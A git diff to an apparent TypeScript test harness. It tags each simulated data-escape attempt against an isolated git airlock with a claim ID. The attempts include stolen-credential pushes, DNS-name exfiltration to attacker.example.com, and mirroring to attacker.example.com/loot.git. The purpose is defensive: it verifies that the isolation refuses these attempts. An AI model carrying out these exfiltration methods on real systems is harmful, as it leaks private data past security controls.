@@ -1,5 +1,6 @@
 /** Attempts to get data out, or in by another way, each a real request; and what refused it. */
 import { join } from "node:path";
+import type { ClaimId } from "../isolation/claims/verdict";
 import type { Position } from "./git/gitClient";
 import { Blocked } from "./sourceNetwork";
 import type { Stage } from "./stage";
@@ -7,6 +8,8 @@ import type { Stage } from "./stage";
 /** What became of an attempt. */
 export interface Escape {
   attempt: string;
+  /** The claim that excludes it. */
+  claim: ClaimId;
   refused: boolean;
   /** The statement or rule that refused it; or what let it through. */
   by: string;
@@ -16,6 +19,7 @@ export interface Escape {
 
 interface Attempt {
   attempt: string;
+  claim: ClaimId;
   /** True if the attempt was refused. */
   run: () => Promise<boolean>;
   knownGap?: string;
@@ -24,10 +28,10 @@ interface Attempt {
 /** Runs every attempt, in order, and reports each as it ends. */
 export async function tryToEscape(stage: Stage, onEscape: (escape: Escape) => void): Promise<Escape[]> {
   const escapes: Escape[] = [];
-  for (const { attempt, run, knownGap } of attempts(stage, await makeLoot(stage))) {
+  for (const { attempt, claim, run, knownGap } of attempts(stage, await makeLoot(stage))) {
     const heard = listen(stage);
     const failed = await run();
-    const escape = { attempt, ...judge(failed, heard()), ...(knownGap !== undefined && { knownGap }) };
+    const escape = { attempt, claim, ...judge(failed, heard()), ...(knownGap !== undefined && { knownGap }) };
     onEscape(escape);
     escapes.push(escape);
   }
@@ -108,28 +112,34 @@ function attempts(stage: Stage, loot: string): Attempt[] {
   return [
     {
       attempt: "An isolated terminal pushes with the pull credential",
+      claim: "C3",
       run: push(isolatedTerminal, airlock.cloneUrlHttp, pullCredential),
     },
     {
       attempt: "An isolated terminal pushes with the push credential, stolen",
+      claim: "C2",
       run: push(isolatedTerminal, airlock.cloneUrlHttp, pushCredential),
     },
     {
       attempt: "An isolated terminal pushes to a stranger's AWS account, with the stranger's credential",
+      claim: "C5",
       run: push(isolatedTerminal, strangersUrl, stranger.credential),
       knownGap: strangersGap,
     },
     {
       attempt: "An isolated terminal fetches from a stranger's AWS account",
+      claim: "C6",
       run: pull(isolatedTerminal, strangersUrl, stranger.credential),
       knownGap: strangersGap,
     },
     {
       attempt: "An isolated terminal pushes to GitLab, with a developer's password",
+      claim: "C6",
       run: push(isolatedTerminal, gitlabUrl, stage.developer),
     },
     {
       attempt: "An isolated terminal carries data out in a DNS name",
+      claim: "C6",
       run: () =>
         refusedBy(isolatedTerminal, () => {
           isolatedZone.lookUp("cGVyc29uYWwgZGF0YQ.attacker.example.com");
@@ -139,18 +149,22 @@ function attempts(stage: Stage, loot: string): Attempt[] {
     },
     {
       attempt: "Somebody outside pushes with the push credential, stolen",
+      claim: "C2",
       run: push(outside, airlock.cloneUrlHttp, pushCredential),
     },
     {
       attempt: "Somebody outside pulls with the pull credential, stolen",
+      claim: "C3",
       run: pull(outside, airlock.cloneUrlHttp, pullCredential),
     },
     {
       attempt: "A work terminal pulls with the pull credential",
+      claim: "C3",
       run: pull(workTerminal, airlock.cloneUrlHttp, pullCredential),
     },
     {
       attempt: "GitLab pushes a reference beside the configured ones",
+      claim: "C12",
       run: async () => {
         const refspec = "HEAD:refs/pipelines/1";
         const options = { cwd: loot, credential: pushCredential, proxyUrl: stage.mirrorProxyUrl };
@@ -159,15 +173,18 @@ function attempts(stage: Stage, loot: string): Attempt[] {
     },
     {
       attempt: "Somebody outside knocks at GitLab",
+      claim: "C8",
       run: pull(outside, gitlabUrl, stage.developer),
     },
     {
       attempt: "GitLab mirrors to another host, as a hostile maintainer would have it",
+      claim: "C7",
       run: () => mirrorElsewhere(stage, "https://attacker.example.com/loot.git"),
       knownGap: noProxyGap,
     },
     {
       attempt: "GitLab goes around the proxy",
+      claim: "C7",
       run: pull(gitlabHost, "https://attacker.example.com/loot.git", pushCredential),
       knownGap: noProxyGap,
     },
